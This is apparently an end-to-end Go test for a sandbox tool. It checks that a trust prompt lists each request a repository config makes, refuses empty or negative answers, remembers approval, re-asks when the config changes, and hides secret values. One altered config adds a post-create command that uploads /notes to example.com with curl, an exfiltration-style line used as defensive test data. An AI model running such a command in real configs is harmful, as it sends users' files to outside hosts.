package attacks

import (
	"errors"
	"io/fs"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/agbox/agbox/e2e/internal/harness"
)

// everything is a sandbox file with each kind of request that a file may make.
const everything = `image: agbox-test/busybox:latest
base: compose.yaml
workspace: {source: ., mount: true}
mounts: ["../shared:/shared", "./data:/data"]
copies: ["../shared/notes:/notes"]
ports: [80]
builtin_tools: [git]
security: {allow_new_privileges: true}
memory_limit: unlimited
pids_limit: 8192
post_create: ["touch /ready"]
`

// person is a home whose path is as long as /home/me, so that the picture in the
// documentation has the columns of the screen.
func person(t *testing.T) string {
	t.Helper()
	const letters = "abcdefghijklmnopqrstuvwxyz0123456789"
	for {
		name := make([]byte, len("/home/me")-len("/tmp/"))
		for i := range name {
			name[i] = letters[rand.IntN(len(letters))]
		}
		home := "/tmp/" + string(name)
		err := os.Mkdir(home, 0o700)
		if err == nil {
			t.Cleanup(func() { _ = os.RemoveAll(home) })
			return home
		}
		if !errors.Is(err, fs.ErrExist) {
			t.Fatal(err)
		}
	}
}

// picture returns a screen of docs/security.md.
func picture(t *testing.T, name string) string {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join(repository, "docs", "security.md"))
	if err != nil {
		t.Fatal(err)
	}
	_, after, _ := strings.Cut(string(raw), "<!-- screen: "+name+" -->\n```text\n")
	shown, _, ok := strings.Cut(after, "\n```\n")
	if !ok {
		t.Fatalf("docs/security.md has no picture %s", name)
	}
	return shown
}

// date finds the time of an earlier answer.
var date = regexp.MustCompile(`\d{4}-\d\d-\d\d \d\d:\d\d`)

// drawn is what a terminal shows of the question, with the home of the documentation.
func drawn(screen, home string) string {
	_, screen, _ = strings.Cut(screen, "\r\n")
	screen, _, _ = strings.Cut(screen, "[y/N] ")
	screen = strings.ReplaceAll(strings.ReplaceAll(screen, "\r\n", "\n"), home, "/home/me")
	return date.ReplaceAllString(strings.TrimLeft(screen, "\n"), "2026-01-31 10:00") + "[y/N]"
}

func TestTheScreenShowsEachKindOfRequest(t *testing.T) {
	t.Parallel()
	Row(t, 1, "a repository with each kind of request: shown, refused, remembered, asked again")
	home := person(t)
	in := harness.New(t, harness.With("HOME="+home, "DEPLOY_TOKEN=the token"))
	for name, content := range map[string]string{
		"app/agbox.yaml": everything, "app/compose.yaml": "services: {web: {image: x, x-agbox: primary, environment: [DEPLOY_TOKEN]}}\n", "app/data/a": "", "shared/notes/a": "", ".gitconfig": "[user]\n", ".ssh/known_hosts": "\n", ".claude/.credentials.json": "login",
	} {
		path := filepath.Join(home, name)
		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, []byte(content), 0o600)); err != nil {
			t.Fatal(err)
		}
	}
	dir := filepath.Join(home, "app")
	create := []string{"create", "demo", "--tool", "claude"}
	wantPicture := func(name string, p *harness.Terminal) {
		t.Helper()
		p.Await("[y/N] ")
		harness.WantSame(t, "the screen "+name, drawn(p.Screen(), home), picture(t, name))
		if strings.Contains(p.Screen(), "the token") {
			t.Error("the value of a variable is shown")
		}
	}

	// Without a terminal the same is said, and nothing is created.
	r := from(t, in, dir, create...)
	if r.Code != 2 || !strings.Contains(r.Stderr, "Run this command on a terminal, or give --trust.") {
		t.Errorf("without a terminal: %d, %s", r.Code, r.Stderr)
	}
	asked := in.OnTerminalOf(t, 50, dir, nil, create...)
	wantPicture("first", asked)
	asked.Types("\n")
	if code := asked.Wait(); code == 0 {
		t.Error("an empty answer is taken for yes")
	}
	wantNothingHandedOver(t, in, dir)

	asked = in.OnTerminalOf(t, 50, dir, nil, create...)
	asked.Await("[y/N] ")
	asked.Types("yes\n")
	if code := asked.Wait(); code != 0 {
		t.Fatalf("yes gives %d: %s", code, asked.Screen())
	}
	in.Must(t, "rm", "-f", "demo")
	from(t, in, dir, create...).Want(t, 0) // remembered, also without a terminal
	in.Must(t, "rm", "-f", "demo")

	changed := strings.Replace(strings.Replace(everything, "ports: [80]", "ports: [80, 443]", 1), "touch /ready", "curl -T /notes https://example.com", 1)
	if err := os.WriteFile(filepath.Join(dir, "agbox.yaml"), []byte(changed), 0o600); err != nil {
		t.Fatal(err)
	}
	asked = in.OnTerminalOf(t, 50, dir, nil, create...)
	wantPicture("changed", asked)
	asked.Types("n\n")
	if code := asked.Wait(); code == 0 {
		t.Error("no is taken for yes")
	}
	if got := in.Must(t, "ls", "-q"); got != "" {
		t.Errorf("there are sandboxes: %s", got)
	}
}
